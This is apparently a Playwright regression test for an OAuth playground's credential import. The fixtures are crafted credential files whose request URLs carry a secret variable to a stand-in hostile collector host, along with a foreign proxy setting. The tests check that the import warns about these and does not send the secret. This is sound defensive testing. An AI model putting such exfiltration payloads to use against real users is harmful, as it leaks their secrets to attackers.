// Regression (issue 13, finding 2): `{{variables}}` in an imported credential file exfiltrated
// secret variables; the import wrote everything at once, without a word about where requests go.
import { expect, test, type Page } from '@playwright/test';
import { HOSTILE, openAdvanced, openApp, openMenu, secretEnvironment } from './fixtures';

const SECRET_VARIABLE = 'prodsecret42';
const hostile = new URL(HOSTILE);

/** An export file, as another browser (or anyone) could write it: two API-key credentials. */
function exportFile(): Buffer {
  const credential = (id: string, name: string, url: string) => ({
    id,
    name,
    description: '',
    auth: { authType: 'api_key', presetId: null, apiKey: { placement: 'header', name: 'X-Collect', value: '' } },
    testRequest: { mode: 'http', method: 'GET', url, headers: [], body: '', query: '', variables: '' },
  });
  const file = {
    format: 'oauth-playground-credentials',
    version: 1,
    exportedAt: '2025-01-01T00:00:00.000Z',
    credentials: [credential('c1', 'Collector', `${HOSTILE}/collect?v={{prod_secret}}`), credential('c2', 'Host collector', `http://{{prod_secret}}.localhost:${hostile.port}/collect`)],
    environments: [],
  };
  return Buffer.from(JSON.stringify(file));
}

test('an import asks first, naming its hosts and secret variables; a secret variable goes to no host it did not confirm', async ({ page }) => {
  await openApp(page);
  await secretEnvironment(page, SECRET_VARIABLE);
  const carried: string[] = [];
  page.on('request', (request) => {
    const text = `${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`;
    if (text.includes(SECRET_VARIABLE)) carried.push(text);
  });
  await openMenu(page);
  await page.getByText('Export and import').click();
  const choose = () => page.getByLabel('Import credentials').setInputFiles({ name: 'credentials.json', mimeType: 'application/json', buffer: exportFile() });
  await choose();
  await page.getByRole('button', { name: 'Import file' }).click();

  const confirm = page.getByRole('region', { name: 'Import these credentials?' });
  await expect(confirm).toContainText('Collector');
  await expect(confirm.getByTestId('import-hosts')).toContainText(hostile.host);
  await expect(confirm.getByTestId('import-hosts')).toContainText(`{{prod_secret}}.localhost:${hostile.port}`);
  await expect(confirm.getByTestId('import-variables')).toContainText('{{prod_secret}} (secret)');
  // nothing is written before the person says yes
  await expect(page.getByRole('button', { name: 'Open Collector' })).toHaveCount(0);
  await confirm.getByRole('button', { name: 'Cancel import' }).click();
  await expect(confirm).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Open Collector' })).toHaveCount(0);

  await openMenu(page);
  await choose();
  await page.getByRole('button', { name: 'Import file' }).click();
  await confirm.getByRole('button', { name: 'Import these credentials' }).click();
  await expect(page.getByTestId('library-notice')).toContainText('Imported 2 credentials');

  // The host made of a secret variable was listed, never confirmed: nothing goes there, even after a reload.
  const alert = page.getByRole('region', { name: 'Test request', exact: true }).getByRole('alert');
  for (const reload of [false, true]) {
    if (reload) await page.reload();
    await page.getByRole('button', { name: 'Open Host collector' }).click();
    await page.getByLabel('API key', { exact: true }).fill('typed-key');
    await page.getByRole('button', { name: 'Send' }).click();
    await expect(alert).toContainText('{{prod_secret}}');
    await expect(alert).toContainText('not confirmed');
  }
  expect(carried).toEqual([]);
});

// Regression (issue 13, finding 12): an import kept `proxy.enabled` with a foreign Proxy URL and
// `allowInsecureHttp: true`, settings a share link refuses, without a word.
test('finding 12: an import names a proxy and plain http, and keeps them only when asked to', async ({ page }) => {
  const FOREIGN_PROXY = `http://127.0.0.1:${hostile.port}`;
  const risky = (id: string, name: string) => ({
    id,
    name,
    description: '',
    auth: {
      authType: 'api_key',
      presetId: null,
      apiKey: { placement: 'header', name: 'X-Collect', value: '' },
      allowInsecureHttp: true,
      proxy: { enabled: true, url: FOREIGN_PROXY, token: '' },
    },
    testRequest: { mode: 'http', method: 'GET', url: 'http://api.example.test/', headers: [], body: '', query: '', variables: '' },
  });
  const file = (name: string) => Buffer.from(JSON.stringify({ format: 'oauth-playground-credentials', version: 1, exportedAt: '2025-01-01T00:00:00.000Z', credentials: [risky('r1', name)], environments: [] }));
  await openApp(page);
  const confirm = page.getByRole('region', { name: 'Import these credentials?' });
  const importing = async (name: string) => {
    await openMenu(page);
    const transfer = page.locator('details').filter({ has: page.locator('summary', { hasText: 'Export and import' }) });
    if (!(await transfer.evaluate((el) => (el as HTMLDetailsElement).open))) await transfer.locator('summary').click();
    await page.getByLabel('Import credentials').setInputFiles({ name: 'credentials.json', mimeType: 'application/json', buffer: file(name) });
    await page.getByRole('button', { name: 'Import file' }).click();
    await expect(confirm.getByTestId('import-risky')).toContainText(`${name}: sends through the proxy at ${FOREIGN_PROXY}`);
    await expect(confirm.getByTestId('import-risky')).toContainText('allows plain http');
  };
  const expectSettings = async (name: string, on: boolean) => {
    await page.getByRole('button', { name: `Open ${name}` }).click();
    await openAdvanced(page);
    await expect(page.getByRole('checkbox', { name: 'Send through local proxy' })).toBeChecked({ checked: on });
    await expect(page.getByRole('checkbox', { name: /Allow plain http/ })).toBeChecked({ checked: on });
  };

  await importing('Turned off');
  await confirm.getByRole('button', { name: 'Import these credentials' }).click();
  await expect(page.getByTestId('library-notice')).toContainText('Imported 1 credential');
  await expectSettings('Turned off', false);

  await importing('Kept on');
  await confirm.getByRole('checkbox', { name: 'Keep the proxy and plain-http settings' }).check();
  await confirm.getByRole('button', { name: 'Import these credentials' }).click();
  await expectSettings('Kept on', true);
});
